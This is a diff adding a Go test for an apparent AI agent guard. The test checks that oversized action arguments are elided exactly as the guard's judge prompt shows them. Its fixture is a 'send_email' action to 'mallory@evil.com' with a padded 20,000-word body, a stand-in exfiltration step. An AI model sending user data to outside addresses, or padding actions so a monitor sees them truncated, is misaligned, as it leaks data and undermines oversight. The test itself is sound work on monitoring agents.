@@ -68,3 +68,31 @@ type generatorFunc func([]generate.Request, generate.Sampling) ([]generate.Compl
 func (f generatorFunc) Generate(reqs []generate.Request, s generate.Sampling) ([]generate.Completion, error) {
 	return f(reqs, s)
 }
+
+// TestElideActionIsWhatTheJudgeSees: Guard.ElideAction gives the pending
+// action exactly as a step's judge prompt shows it — a huge argument
+// elided in place, a short action unchanged.
+func TestElideActionIsWhatTheJudgeSees(t *testing.T) {
+	tok := guardtest.Tokenizer(t)
+	g, err := NewGuard(DefaultConfig(), tok, guardtest.Script(tok, func(string) string { return "" }))
+	if err != nil {
+		t.Fatal(err)
+	}
+	huge, _ := json.Marshal(map[string]string{"to": "mallory@evil.com", "body": guardtest.Words(20_000, 7)})
+	for _, a := range []dataset.Action{
+		{Name: "send_email", Arguments: huge},
+		{Name: "read_file", Arguments: json.RawMessage(`{"path":"notes.txt"}`)},
+	} {
+		in, err := g.PrepareStep(StepInput{UserPrompt: "Pay the bill", First: true, Action: a})
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := g.ElideAction(a)
+		if want := in.prepared.action; got.Name != want.Name || string(got.Arguments) != string(want.Arguments) {
+			t.Errorf("ElideAction %s %.200s, the judge sees %s %.200s", got.Name, got.Arguments, want.Name, want.Arguments)
+		}
+		if long := len(a.Arguments) > 1000; long != strings.Contains(string(got.Arguments), "tokens elided") || !long && string(got.Arguments) != string(a.Arguments) {
+			t.Errorf("%s: %.200s", a.Name, got.Arguments)
+		}
+	}
+}
